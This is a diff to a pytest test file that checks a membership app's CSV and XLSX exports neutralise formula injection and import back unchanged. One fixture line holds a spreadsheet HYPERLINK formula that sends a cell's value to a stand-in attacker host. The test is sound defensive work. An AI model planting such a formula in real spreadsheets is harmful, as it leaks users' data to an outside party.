@@ -476,6 +476,31 @@ def test_xlsx_export_imports_back_unchanged(admin_client):
     assert [row.import_type for row in result.valid_rows()] == ["skip"]  # nothing changed
 
 
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_member_exports_write_a_formula_as_text_and_import_back_unchanged(admin_client, file_format):
+    from openpyxl import load_workbook
+
+    MemberFactory(full_name="@Kim Daniel", notes=FORMULA_NOTE, phone="+82 2 3460 7114", title="-")
+    content = _export(admin_client, file_format).content
+    if file_format == "csv":
+        body = content.decode("utf-8-sig")
+        quoted = FORMULA_NOTE.replace('"', '""')
+        assert f'"\'{quoted}"' in body  # OWASP's apostrophe, then CSV quoting
+        assert ",'@Kim Daniel," in body and ",'+82 2 3460 7114," in body and ",'-," in body
+    else:
+        sheet = load_workbook(BytesIO(content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}  # no formula cell ("f")
+        assert FORMULA_NOTE in [cell.value for cell in cells]
+    preview = _import_file(admin_client, f"members.{file_format}", content, file_format)
+    result = preview.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.valid_rows()] == ["skip"]  # read back as it was
+
+
 def test_importing_an_xlsx_file_adds_its_members(admin_client):
     from openpyxl import Workbook
 
